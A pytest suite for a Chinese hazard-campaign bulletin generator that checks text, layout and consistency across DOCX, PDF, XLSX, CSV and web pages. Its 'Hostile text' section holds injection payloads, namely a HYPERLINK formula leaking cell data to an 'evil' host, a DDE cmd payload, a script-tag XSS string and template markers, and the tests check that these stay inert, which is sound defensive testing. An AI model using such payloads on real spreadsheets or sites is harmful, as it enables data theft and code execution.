"""Bulletins as documents: what they say, that every form of them says the same, and how the files beside them come."""

from __future__ import annotations

import csv
import io
import re
import time
import tomllib
from dataclasses import replace
from datetime import date
from itertools import pairwise
from pathlib import Path
from types import SimpleNamespace

import docx
import openpyxl
import pytest
from checkout import checkout
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from support import KINDS, ROOT, Tree

from taizhang.bulletins.periodic import Bulletin, published
from taizhang.bulletins.telling.columns import filing_rows, flat, hazard_rows, parts, statistics
from taizhang.bulletins.telling.documents import UNISSUED, Issue, IssueStatus, newsletter, official
from taizhang.bulletins.telling.files import files, sheets
from taizhang.disclosure.public import campaign_view
from taizhang.disclosure.views import CampaignView
from taizhang.documents.docx_layout import as_docx
from taizhang.documents.fonts import Fonts, fonts_on
from taizhang.documents.official import (
    Annex,
    Attachments,
    Body,
    Heading,
    Imprint,
    Line,
    Link,
    Masthead,
    Number,
    OfficialDocument,
    Signature,
    Table,
)
from taizhang.documents.titles import broken
from taizhang.findings import word
from taizhang.pages.bulletins import linked
from taizhang.pages.pages import Edition
from taizhang.publishing.downloads import DownloadCache
from taizhang.publishing.edition import public_edition
from taizhang.publishing.kept import KeptFiles
from taizhang.workspace import Workspace

Known = dict[str, tuple[Bulletin, CampaignView, Issue]]


def all_of(edition: Edition) -> Known:
    """Every bulletin by its name, with its campaign and how it stands."""
    return {b.name: (b, view, edition.issue(b, series)) for view, series in edition.campaigns for b in series}


@pytest.fixture(scope="module")
def known(sample_edition: Edition) -> Known:
    return all_of(sample_edition)


def edition_of(tree: Tree, at: date, **words: object) -> Edition:
    """The bulletins of a tree as they would be issued, all with the same words of the office."""
    ledger = tree.ledger(at)
    view = campaign_view(ledger, KINDS)
    series = tuple(replace(b, words=words) for b in published(ledger, view, {}))
    return Edition(campaigns=[(view, series)], criteria=[])


def said(document: OfficialDocument) -> list[str]:
    """Every heading and paragraph, as it reads."""
    return [
        b.text if isinstance(b, Heading) else b.lead + b.text for b in document.blocks if isinstance(b, Heading | Body)
    ]


def text_of(document: OfficialDocument) -> str:
    return "\n".join(said(document))


def tables(document: OfficialDocument) -> list[Table]:
    return [b for b in document.blocks if isinstance(b, Table)]


# What is said.


@pytest.mark.requirement("A56")
def test_a_monthly_bulletin_has_the_parts_of_a_notice_in_their_order(known: Known) -> None:
    document = official(*known["monthly-2023-08"])
    kinds = [type(b).__name__ for b in document.blocks if not isinstance(b, Body | Heading | Table | Line)]
    assert kinds == [
        *("Title", "Number", "Number", "Addressee", "Attachments", "Signature", "Note"),
        *("Annex", "Annex", "Annex", "Imprint"),
    ]
    assert [t for t in said(document) if re.match("[一二三四五六]、", t)] == [
        "一、总体情况",
        "二、好的做法",
        "三、存在问题",
        "四、曝光情况",
        "五、下一步工作要求",
    ]
    assert [b.names for b in document.blocks if isinstance(b, Attachments)] == [
        ("统计表", "未整改的重大事故隐患清单", "报送情况一览表")
    ]
    assert [(b.label, b.landscape) for b in document.blocks if isinstance(b, Annex)] == [
        ("附件1", True),
        ("附件2", True),
        ("附件3", False),
    ]


def test_a_monthly_bulletin_compares_with_the_month_before_and_keeps_self_check_and_inspection_apart(
    known: Known,
) -> None:
    text = text_of(official(*known["monthly-2023-08"]))
    assert "本月新增重大事故隐患9项，比上月增加1项，其中单位自查发现6项，检查、举报等发现3项" in text
    assert "行动开展以来，累计排查重大事故隐患34项，已整改销号11项，整改率32.4%" in text
    assert "月末未整改23项，比上月末增加6项" in text


def test_late_missing_and_nil_are_named_apart(known: Known) -> None:
    text = text_of(official(*known["monthly-2023-07"]))
    bulletin = known["monthly-2023-07"][0]
    assert bulletin.missing
    assert bulletin.nil
    (unmet,) = re.findall(r"（.）未按时报送。.*", text)
    assert all(named.org.short_name in unmet for named in bulletin.missing)
    (nil,) = re.findall(r"上报零报告的单位有.*", text)
    assert all(named.org.short_name in nil for named in bulletin.nil)


def test_the_coming_deadlines_are_real_days(known: Known) -> None:
    assert "11月24日前报送月报（2019年11月）" in text_of(official(*known["monthly-2019-10"]))


BAD = [
    r"(?<![0-9.])0(项|家|份|次|件|人次)",
    r"[，；、。：]{2}",
    r"None|Undefined|\{|\}|<|&",
    r"[（(][）)]",
    r"：。|，。|；。|、。",
]


def test_sentences_are_whole_and_nothing_is_counted_that_is_not_there(known: Known) -> None:
    for bulletin, view, issue in known.values():
        documents = [official(bulletin, view, issue)]
        documents += [newsletter(bulletin, view, issue)] if bulletin.kind == "monthly" else []
        for document in documents:
            for paragraph in said(document):
                for pattern in BAD:
                    assert not re.search(pattern, paragraph), (bulletin.name, paragraph)
            bodies = [b for b in document.blocks if isinstance(b, Body)]
            assert all((b.lead + b.text).endswith("。") for b in bodies), bulletin.name


def test_no_section_is_empty_and_numbers_run_on(known: Known) -> None:
    for bulletin, view, issue in known.values():
        blocks = official(bulletin, view, issue).blocks
        for heading, after in pairwise(blocks):
            if isinstance(heading, Heading):
                below = isinstance(after, Heading) and after.level > heading.level
                assert isinstance(after, Body) or below, (bulletin.name, heading.text)
        sections = [b.text[0] for b in blocks if isinstance(b, Heading) and b.level == 1]
        assert "".join(sections) == "一二三四五六七八九"[: len(sections)]


@pytest.mark.requirement("A56")
def test_the_statistical_table_has_every_organisation_and_the_total(known: Known) -> None:
    bulletin, view, issue = known["weekly-2023-W28"]
    (table, hazards) = tables(official(bulletin, view, issue))
    names = [row.cells[1].text for row in table.rows[2:]]
    assert names == [*(row.org.short_name for row in bulletin.table.rows), "合计"]
    assert len(table.rows[2].cells) == len(statistics()) == len(table.widths)
    assert len(hazards.rows) - 1 == len(bulletin.open_hazards) == bulletin.total.maj_open_end
    lines = [b.text for b in official(bulletin, view, issue).blocks if isinstance(b, Line)]
    assert "应报25家，实报22家，按时报送22家，报送率88.0%，按时报送率88.0%。" in lines


def test_the_columns_of_the_notices_are_there() -> None:
    """The columns of the weekly table, by what they are called in the reference."""
    wanted = {"number", "unit", "filing", "closure_rate", "funds_cum", "remark", "self_checks", "principal_checks_qtd"}
    wanted |= {"gen_found", "gen_fixed", "gen_open", "maj_cum_found", "maj_cum_closed", "train_n", "drill_n", "warn_n"}
    wanted |= {"penalty_n", "talk_n", "exposed_n", "maj_open_start", "maj_new_self", "maj_new_external", "maj_closed"}
    wanted |= {"maj_open_end", "maj_legacy_open", "maj_overdue", "maj_extended", "maj_supervised", "maj_suspended"}
    assert wanted | {"maj_five_ok"} <= {head.key for head in statistics()}


@pytest.mark.requirement("B1")
def test_where_counties_stand_between_each_has_its_table_and_the_whole_is_their_sum(known: Known) -> None:
    bulletin = known["monthly-2019-10"][0]
    whole, *counties = parts(bulletin)
    assert len(counties) == 8
    assert [line.name for line in whole.lines if line.is_county] == [part.name for part in counties]
    for county, line in zip(counties, (line for line in whole.lines if line.is_county), strict=True):
        assert (
            line.figures == county.total.figures == sum((x.figures for x in county.lines[1:]), county.lines[0].figures)
        )
    everyone = [line.org for part in counties for line in part.lines]
    everyone += [line.org for line in whole.lines if not line.is_county]
    assert sorted(org.id for org in everyone if org) == sorted(row.org.id for row in bulletin.table.rows)
    assert sum((line.figures for line in whole.lines[1:]), whole.lines[0].figures) == bulletin.total


# Drafts and issues.


def test_a_draft_has_a_watermark_blanks_and_no_number_of_its_own(known: Known) -> None:
    weekly, view, _ = known["weekly-2023-W29"]
    draft = official(weekly, view, UNISSUED)
    assert (draft.watermark, draft.dated) == ("草稿", None)
    assert [b.day for b in draft.blocks if isinstance(b, Signature)] == [None]
    monthly, view, issue = known["monthly-2023-08"]
    assert issue.standing is IssueStatus.ISSUED
    document = official(monthly, view, issue)
    assert (document.watermark, document.dated) == ("", date(2023, 9, 6))
    blank = [b.text.strip() for b in document.blocks if isinstance(b, Number) and b.blank]
    assert blank == ["〔2023〕　号"]
    numbered = official(replace(monthly, words={**monthly.words, "doc_no": "示例卫健〔2023〕7号"}), view, issue)
    assert Number("示例卫健〔2023〕7号") in numbered.blocks
    assert official(monthly, view, replace(issue, standing=IssueStatus.SUPERSEDED)).watermark == "已更正"


def test_the_state_of_the_ledger_and_corrections_are_told_where_there_are_any(known: Known) -> None:
    bulletin, view, issue = known["monthly-2023-08"]
    told = replace(issue, commit="3f2a1b4c5d6e7f8091", entry=37, digest="ab12", revision=2, reason="漏统计一家")
    change = SimpleNamespace(org=None, title="期末存量", was="3", now="")
    other = SimpleNamespace(number=3, kind="monthly", period=bulletin.period.previous, revision=2, reason="漏报。")
    other.changes = (change,)
    document = official(replace(bulletin, corrections=(other,)), view, told)
    lines = "".join(b.text for b in document.blocks if isinstance(b, Line))
    assert "第37号更新（提交3f2a1b4c5d6e）" in lines
    assert "摘要ab12" in lines
    assert "本期为第2版，代替第1版。更正原因：漏统计一家。" in text_of(document)
    assert (
        "第3期月通报（2023年7月）印发后作了更正（第2版），原因：漏报。更正的数字：合计“期末存量”由3改为空白。"
        in text_of(document)
    )
    assert "第4期（第2版）" in [b.text for b in document.blocks if isinstance(b, Number)]
    names = [draft.name for draft in files(bulletin, view, told, None)]
    assert names == [
        f"{n}-2023-08-r2.{s}" for n, s in (*(("monthly", s) for s in ("docx", "xlsx", "csv")), ("newsletter", "docx"))
    ]
    plain = official(bulletin, view, issue)
    assert "更正" not in "".join(b.text for b in plain.blocks if isinstance(b, Heading | Number))


def test_a_newsletter_counts_within_the_year_and_within_the_campaign(known: Known) -> None:
    bulletin, view, issue = known["monthly-2023-08"]
    (head,) = [b for b in newsletter(bulletin, view, issue).blocks if isinstance(b, Masthead)]
    assert (head.number, head.office, head.day) == ("第4期（总第4期）", "旗卫健委办公室", "2023年9月6日")
    (later,) = [b for b in newsletter(bulletin, view, replace(issue, of_year=2)).blocks if isinstance(b, Masthead)]
    assert later.number == "第2期（总第4期）"
    assert text_of(newsletter(bulletin, view, issue)).startswith("一、本月进展\n本月新增重大事故隐患9项")


def test_copies_go_to_the_committee(known: Known) -> None:
    (imprint,) = [b for b in official(*known["monthly-2023-08"]).blocks if isinstance(b, Imprint)]
    assert imprint == Imprint("旗安委会办公室", "旗卫健委办公室", "2023年9月6日")


# Titles.


@pytest.mark.parametrize(
    ("pieces", "lines"),
    [
        (["关于2023年8月份", "重大事故隐患排查整治2023行动", "进展情况的通报"], [7.5, 14, 7]),
        (["关于2026年11月份", "安全整治", "进展情况的通报"], [19.0]),
        (["甲" * 12, "乙" * 12], [12, 12]),
        (["甲" * 30], [16, 14]),
    ],
)
def test_titles_break_into_a_trapezium_or_a_rhombus(pieces: list[str], lines: list[float]) -> None:
    from taizhang.documents.docx_parts import characters

    found = broken(pieces, 20).splitlines()
    assert [characters(line) for line in found] == lines
    assert "".join(found) == "".join(pieces)


def test_no_line_of_a_title_begins_with_a_stop_or_ends_inside_a_number() -> None:
    found = broken(
        ["示例市卫生健康系统安全生产治本攻坚三年行动（2024—2026年）、“1+7+N”专项行动和消防安全专项整治2026行动"], 20
    )
    for line in found.splitlines():
        assert not line.startswith(tuple("，、）”》。；："))
    assert not re.search(r"\d\n\d", found)


# Every form says the same.


def test_page_docx_and_workbook_say_the_same(known: Known, sample_site: Path) -> None:
    for name in ("monthly-2023-08", "weekly-2023-W28", "monthly-2019-10"):
        bulletin, view, issue = known[name]
        document = official(bulletin, view, issue)
        page = (sample_site / bulletin.href / "index.html").read_text(encoding="utf-8")
        plain = re.sub(r"<[^>]+>", "", page.split("tz-downloads", 1)[1])
        written = docx.Document(io.BytesIO(as_docx(document)))
        in_docx = [p.text for p in written.paragraphs]
        for sentence in said(document):
            assert sentence in plain, sentence
            assert sentence in in_docx, sentence
        book = openpyxl.load_workbook(io.BytesIO((sample_site / bulletin.permanent / f"{name}.xlsx").read_bytes()))
        statistics = tables(document)[0]
        shown = [
            "" if c in (None, 0) else str(c)
            for c in (book.worksheets[0].cell(4 + len(parts(bulletin)[0].lines) + 1, n).value for n in range(1, 10))
        ]
        assert shown == [cell.text for cell in statistics.rows[-1].cells[:9]]


def test_the_documents_are_measured_again(known: Known) -> None:
    written = docx.Document(io.BytesIO(as_docx(official(*known["monthly-2023-08"]))))
    lies = [section.orientation is WD_ORIENT.LANDSCAPE for section in written.sections]
    assert lies == [False, True, True, False]
    for section in written.sections:
        (grid,) = section._sectPr.xpath("w:docGrid")
        assert (grid.get(qn("w:linePitch")), grid.get(qn("w:charSpace"))) == ("579", "-848")
    first, sideways = written.sections[0], written.sections[1]
    edges = first.top_margin, first.bottom_margin, first.left_margin, first.right_margin
    assert [round(edge.mm) for edge in edges if edge is not None] == [37, 35, 28, 26]
    turned = sideways.right_margin, sideways.left_margin, sideways.top_margin, sideways.bottom_margin
    assert [round(edge.mm) for edge in turned if edge is not None] == [37, 35, 28, 26]
    weekly = docx.Document(io.BytesIO(as_docx(official(*known["weekly-2023-W28"]))))
    assert all(section.orientation is WD_ORIENT.LANDSCAPE for section in weekly.sections)


def test_a_sideways_page_keeps_its_number_where_the_others_have_it(known: Known) -> None:
    written = docx.Document(io.BytesIO(as_docx(official(*known["monthly-2023-08"]))))
    upright, sideways, _, last = written.sections
    for footer in (sideways.footer, sideways.even_page_footer):
        (plate,) = footer._element.xpath("w:tbl")
        assert plate.xpath("w:tr/w:tc/w:tcPr/w:textDirection/@w:val") == ["tbRl"]
        assert plate.xpath("w:tblPr/w:tblpPr/@w:tblpX") == ["1450"]
    odd, even = (
        int(f._element.xpath("w:tbl/w:tblPr/w:tblpPr/@w:tblpY")[0])
        for f in (sideways.footer, sideways.even_page_footer)
    )
    assert (odd + 2000, even) == (11906 - 1474 - 280, 1587 + 280)
    for footer in (upright.footer, last.footer):
        assert footer._element.xpath("w:tbl") == []


def test_the_watermark_lies_on_every_page_of_a_draft_and_nothing_else_is_drawn(known: Known) -> None:
    bulletin, view, _ = known["weekly-2023-W29"]
    written = docx.Document(io.BytesIO(as_docx(official(bulletin, view, UNISSUED))))
    for header in (written.sections[0].header, written.sections[0].even_page_header):
        drawn = header._element.iter("{urn:schemas-microsoft-com:vml}textpath")
        assert [mark.get("string") for mark in drawn] == [None, "草稿"]  # the outline, then what is drawn along it
    issued = as_docx(official(*known["monthly-2023-08"]))
    assert b"v:shape" not in issued


# Hostile text.

EVIL = [
    '=HYPERLINK("http://evil?"&A1,"点我")',
    "＝cmd|' /C calc'!A0",
    "]]>",
    "</a><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
    '#link("http://evil")[点我] $x$ *粗* \\u{41} // 注',
    "一、假标题",
]


def hostile() -> Edition:
    tree = monthly_too()
    tree.add("east-hospital", "hazards", title=EVIL[0], place=EVIL[1])
    tree.add("bureau", "determinations")
    return edition_of(tree, date(2023, 7, 10), remarks=EVIL, good_practices=EVIL, requirements=EVIL, doc_no=EVIL[2])


def monthly_too() -> Tree:
    tree = Tree()
    tree.campaign["bulletins"].append({"bulletin": "monthly", "from": "2023-05-01", "cut_off_days": 3})
    return tree


@pytest.fixture(scope="module")
def evil() -> Known:
    return all_of(hostile())


@pytest.mark.parametrize("name", ["weekly-2023-W24", "monthly-2023-06"])
def test_submitted_text_stays_text_in_every_form(evil: Known, name: str) -> None:
    bulletin, view, issue = evil[name]
    document = official(bulletin, view, issue)
    for text in EVIL:
        assert [b for b in document.blocks if isinstance(b, Body) and b.text == text and not b.links]
        assert not [b for b in document.blocks if isinstance(b, Heading) and b.text == text]
    written = docx.Document(io.BytesIO(as_docx(document)))
    assert set(EVIL) <= {p.text for p in written.paragraphs}
    made = {draft.name: draft.make() for draft in files(bulletin, view, issue, None)}
    book = openpyxl.load_workbook(io.BytesIO(made[f"{name}.xlsx"]))
    cells = [cell for page in book for row in page.iter_rows() for cell in row]
    assert EVIL[0] in {cell.value for cell in cells}
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    for row in csv.reader(io.StringIO(made[f"{name}.csv"].decode("utf-8-sig"))):
        assert not any(cell.startswith(tuple("=+-@＝")) for cell in row)


def test_submitted_text_makes_no_link(evil: Known) -> None:
    for block in official(*evil["monthly-2023-06"]).blocks:
        if isinstance(block, Body):
            for link in block.links:
                assert re.fullmatch(r"#[a-z]+|(bulletins|units|visits|exposures|tips)/[a-z0-9/#._-]*", link.href)


def test_a_linked_paragraph_is_escaped_and_led_from_its_page() -> None:
    block = Body("甲<b>乙", links=(Link(0, 1, "units/a/"), Link(4, 5, "#annex")))
    assert str(linked(block, "../")) == '<a href="../units/a/">甲</a>&lt;b&gt;<a href="#annex">乙</a>'


# Periods of every kind.


def quiet() -> Known:
    return all_of(edition_of(monthly_too(), date(2023, 8, 31)))


def test_a_period_without_anything_is_told_in_whole_sentences() -> None:
    document = official(*quiet()["weekly-2023-W22"])
    text = text_of(document)
    assert "本周没有新增重大事故隐患；没有整改销号；期末没有未整改的重大事故隐患。" in text
    assert "未报送的有" in text
    assert not [b for b in document.blocks if isinstance(b, Annex | Attachments)]
    table = tables(document)[0]
    rate = [head.key for head in statistics()].index("closure_rate")
    assert table.rows[-1].cells[rate].text == "—"


def test_one_annex_has_no_number_and_without_hazards_there_is_no_list() -> None:
    document = official(*quiet()["monthly-2023-06"])
    assert [b.title for b in document.blocks if isinstance(b, Annex)] == ["统计表", "报送情况一览表"]
    assert list(hazard_rows(quiet()["monthly-2023-06"][0])) == []


def test_a_unit_that_joins_in_the_period_is_remarked(known: Known) -> None:
    bulletin = known["weekly-2023-W35"][0]
    remarks = {line.name: line.remark for line in flat(bulletin).lines}
    assert remarks["北辰里社区卫生服务中心"] == "9月1日列入"


def test_the_rate_of_filing_without_denominator_is_a_dash() -> None:
    bulletin = quiet()["monthly-2023-05"][0]
    assert bulletin.total.due_n
    rows = list(
        filing_rows(replace(bulletin, table=replace(bulletin.table, rows=(), total=bulletin.total + bulletin.total)))
    )
    assert rows[-1][-1] == bulletin.total.submission_rate


# The files on the site.


def test_every_bulletin_links_its_files_with_their_sizes(sample_site: Path, known: Known) -> None:
    link = re.compile(r'<a href="([^"]+)" download>[^<]+</a><small>（([0-9]+) KB）</small>')
    for name, (bulletin, _, _) in known.items():
        folder = sample_site / bulletin.href
        linked_files = [
            ((folder / href).resolve(), int(size))
            for href, size in link.findall((folder / "index.html").read_text(encoding="utf-8"))
        ]
        printed = [".docx", ".pdf"]
        suffixes = [*printed, ".xlsx", ".csv", *(printed if bulletin.kind == "monthly" else [])]
        assert [file.suffix for file, _ in linked_files] == suffixes, name
        for file, size in linked_files:
            assert file.parent == (sample_site / bulletin.permanent).resolve()
            assert -(-file.stat().st_size // 1024) == size


def test_the_workbook_has_a_sheet_for_every_county_and_annex(known: Known) -> None:
    names = [sheet.name for sheet in sheets(*known["monthly-2019-10"])]
    assert names[0] == "统计表"
    assert names[1] == "云泉县卫健委及所属单位"
    assert names[-2:] == ["未整改的重大事故隐患清单", "报送情况一览表"]


def test_the_csv_has_every_organisation_once(sample_site: Path, known: Known) -> None:
    bulletin = known["monthly-2019-10"][0]
    raw = (sample_site / bulletin.permanent / "monthly-2019-10.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [row[1] for row in rows] == ["单位名称", *(row.org.short_name for row in bulletin.table.rows), "合计"]
    found = [head.key for head in statistics()].index("maj_cum_found")
    assert rows[-1][found] == str(bulletin.total.maj_cum_found)


def made(edition: Edition, kept: Path, fonts: Fonts | None) -> tuple[dict[str, bytes], list[str]]:
    """Every file of an edition by its name, and the codes of what was found."""
    cache = DownloadCache(kept, fonts)
    files_ = {d.name: d.body for given in cache.downloads(edition).values() for d in given}
    return files_, [found.code for found in cache.findings]


def test_without_a_chinese_font_only_the_pdf_is_left_out_and_a_finding_says_so(tmp_path: Path) -> None:
    (tmp_path / "no-fonts").mkdir()
    root = checkout(tmp_path / "root", Tree())
    workspace = Workspace(root)
    examination = workspace.examine(date(2023, 6, 13))
    edition = public_edition(root, workspace.kinds, examination, fonts=tmp_path / "no-fonts")
    assert [notice.code for notice in edition.notices] == ["W-FONT"]
    names = {Path(d.name).suffix for given in edition.downloads.values() for d in given}
    assert names == {".docx", ".xlsx", ".csv"}
    assert "fonts-noto-cjk" in word(edition.notices[0]).fix
    assert public_edition(root, workspace.kinds, examination).notices == ()


def test_a_character_that_no_font_has_leaves_out_that_pdf_alone_and_is_named(tmp_path: Path) -> None:
    edition = edition_of(monthly_too(), date(2023, 6, 4), remarks=["某\U0010fffd院已整改。"])
    files_, codes = made(edition, tmp_path, fonts_on())
    assert "monthly-2023-05.docx" in files_
    assert not [name for name in files_ if name.endswith(".pdf")]
    assert set(codes) == {"W-GLYPH"}
    files_, codes = made(edition_of(monthly_too(), date(2023, 6, 4), remarks=["某喆院已整改。"]), tmp_path, fonts_on())
    assert "newsletter-2023-05.pdf" in files_
    assert codes == []


def test_a_file_is_made_once_for_the_same_content(tmp_path: Path) -> None:
    edition = edition_of(monthly_too(), date(2023, 6, 4))
    first, _ = made(edition, tmp_path, fonts_on())
    names = {file.name for file in tmp_path.iterdir()}
    assert len(names) == len(first)
    kept = {file: (file.stat().st_ino, file.read_bytes()) for file in tmp_path.iterdir()}
    assert made(edition, tmp_path, fonts_on())[0] == first
    assert {file: (file.stat().st_ino, file.read_bytes()) for file in tmp_path.iterdir()} == kept
    changed, _ = made(edition_of(monthly_too(), date(2023, 6, 4), remarks=["补充一句。"]), tmp_path, fonts_on())
    assert changed["monthly-2023-05.docx"] != first["monthly-2023-05.docx"]
    assert changed["monthly-2023-05.csv"] == first["monthly-2023-05.csv"]


def test_a_kept_file_that_is_not_what_was_put_there_is_made_anew(tmp_path: Path) -> None:
    """Cut off at any place, other bytes, another form of keeping, nothing at all: only the whole file is believed."""
    asked = list[str]()

    def ask() -> bytes:
        def make() -> bytes:
            asked.append("made")
            return b"a bulletin"

        return KeptFiles(tmp_path).get("key.docx", make)

    assert (ask(), ask(), asked) == (b"a bulletin",) * 2 + (["made"],)
    (file,) = tmp_path.iterdir()
    whole = file.read_bytes()
    cut = [whole[:end] for end in range(len(whole))]
    flipped = [whole[:at] + bytes([whole[at] ^ 1]) + whole[at + 1 :] for at in range(len(whole))]
    for spoilt in (*cut, *flipped, whole + b"x", b"a bulletin", whole.replace(b"kept 1", b"kept 2")):
        asked.clear()
        file.write_bytes(spoilt)
        assert (ask(), asked, file.read_bytes()) == (b"a bulletin", ["made"], whole)


def test_a_spoilt_kept_file_does_not_reach_the_site(tmp_path: Path) -> None:
    edition = edition_of(monthly_too(), date(2023, 6, 4))
    first, _ = made(edition, tmp_path, None)
    for number, file in enumerate(sorted(tmp_path.iterdir())):
        file.write_bytes((b"", b"garbage", file.read_bytes()[:-9])[number % 3])
    assert made(edition, tmp_path, None)[0] == first


def test_the_files_are_the_same_bytes_in_every_time_zone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = []
    for zone in ("America/New_York", "Asia/Shanghai"):
        monkeypatch.setenv("TZ", zone)
        time.tzset()
        found.append(made(hostile(), tmp_path / zone, fonts_on()))
    monkeypatch.undo()
    time.tzset()
    assert found[0] == found[1]
    assert {Path(name).suffix for name in found[0][0]} == {".docx", ".pdf", ".xlsx", ".csv"}


def test_the_layout_goes_with_the_package() -> None:
    """Whoever installs the program has the files that are not Python, too."""
    settings = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    patterns = settings["tool"]["setuptools"]["package-data"]["taizhang"]
    suffixes = {f.suffix for f in (ROOT / "generator").rglob("*") if f.is_file() and "__pycache__" not in f.parts}
    assert suffixes - {".py"} <= {Path(pattern).suffix for pattern in patterns}
